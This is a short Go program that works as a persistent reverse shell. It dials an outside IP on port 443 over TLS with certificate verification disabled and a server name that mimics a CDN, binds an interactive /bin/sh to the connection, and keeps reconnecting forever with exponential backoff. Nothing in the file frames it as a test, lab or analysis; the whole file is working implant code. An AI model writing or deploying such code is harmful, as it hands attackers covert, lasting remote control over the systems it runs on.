package main

import (
	"crypto/tls"
	"os/exec"
	"time"
)

func session(addr string) error {
	c, err := tls.Dial("tcp", addr, &tls.Config{InsecureSkipVerify: true, ServerName: "cdn.example.net"})
	if err != nil {
		return err
	}
	defer c.Close()
	cmd := exec.Command("/bin/sh", "-i")
	cmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c
	return cmd.Run()
}

func main() {
	backoff := 2 * time.Second
	for {
		if err := session("198.51.100.23:443"); err != nil {
			if backoff < 5*time.Minute {
				backoff *= 2
			}
		} else {
			backoff = 2 * time.Second
		}
		time.Sleep(backoff)
	}
}
